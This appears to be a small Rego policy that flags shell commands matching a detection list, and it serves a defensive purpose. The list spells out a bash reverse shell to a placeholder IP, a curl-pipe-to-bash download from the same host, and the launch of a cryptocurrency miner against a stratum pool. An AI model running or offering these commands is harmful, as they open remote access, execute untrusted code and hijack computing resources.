package example.shells

patterns := [
	"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
	"curl http://192.0.2.1/x.sh | bash",
	"nohup ./agentd -o stratum+tcp://pool.example.invalid:3333 -u x &",
]

findings contains p if {
	some p in patterns
	contains(input.command, p)
}
